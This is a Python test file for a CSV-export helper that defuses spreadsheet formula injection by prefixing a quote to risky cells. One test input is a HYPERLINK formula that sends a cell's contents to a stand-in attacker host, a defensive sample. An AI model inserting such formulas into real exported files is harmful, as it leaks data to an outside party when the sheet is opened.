"""CSV cells a spreadsheet would run as a formula are written as text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot import csvsafe


@pytest.mark.parametrize("raw", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+1", "+1", "-1", "-2+3",
                                 "@SUM(A1:A2)", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠SUM(A1)"])
def test_a_cell_a_spreadsheet_would_compute_starts_with_a_quote(raw):
    assert csvsafe.cell(raw) == "'" + raw


@pytest.mark.parametrize("raw", ["自宅前", "駐車場の入口", "LW-2026-000001", "自転車 x1; 電子レンジ x1", "", "a=b",
                                 " 1", "'=1"])
def test_other_text_is_left_alone(raw):
    assert csvsafe.cell(raw) == raw


@pytest.mark.parametrize("value", [400, -400, 0, 1.5, None, True])
def test_numbers_and_empty_cells_stay_as_they_are(value):
    """Numbers the program writes are numbers, not text someone typed: a fee of -400 stays -400."""
    assert csvsafe.cell(value) is value


def test_the_dict_writer_neutralises_every_row_and_keeps_the_header():
    out = io.StringIO()
    writer = csvsafe.DictWriter(out, fieldnames=("number", "place", "fee"), lineterminator="\n")
    writer.writeheader()
    writer.writerow({"number": "LW-1", "place": "=1+1", "fee": -400})
    writer.writerows([{"number": "LW-2", "place": "@x", "fee": 0}, {"number": "LW-3", "place": "門の前", "fee": 800}])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["number", "place", "fee"], ["LW-1", "'=1+1", "-400"], ["LW-2", "'@x", "0"], ["LW-3", "門の前", "800"]]


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_no_written_text_cell_starts_a_formula(text):
    safe = csvsafe.cell(text)
    assert not safe.startswith(csvsafe.FORMULA_STARTS)
    assert safe in (text, "'" + text)
